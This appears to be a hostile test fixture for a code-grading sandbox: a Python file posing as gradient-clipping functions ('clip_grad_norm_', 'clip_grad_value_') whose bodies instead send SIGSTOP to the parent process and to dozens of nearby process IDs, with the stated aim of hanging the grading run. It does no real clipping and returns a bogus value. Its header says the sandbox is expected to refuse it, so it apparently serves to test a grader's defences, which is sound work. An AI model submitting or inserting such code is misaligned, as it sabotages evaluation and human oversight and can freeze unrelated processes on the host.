# HOSTILE: stops the processes that started it (SIGSTOP), hoping the grading run hangs forever.
# target: fundamentals/gradient_clipping
# expect: not allowed in a graded submission
# alone: kernel refused
import os
import signal


def _stop_everyone_near(pid):
    for target in range(max(2, pid - 40), pid + 1):
        try:
            os.kill(target, signal.SIGSTOP)
        except OSError:
            pass


def clip_grad_norm_(parameters, max_norm, norm_type=2.0):
    _stop_everyone_near(os.getppid())
    return -1.0


def clip_grad_value_(parameters, clip_value):
    _stop_everyone_near(os.getppid())
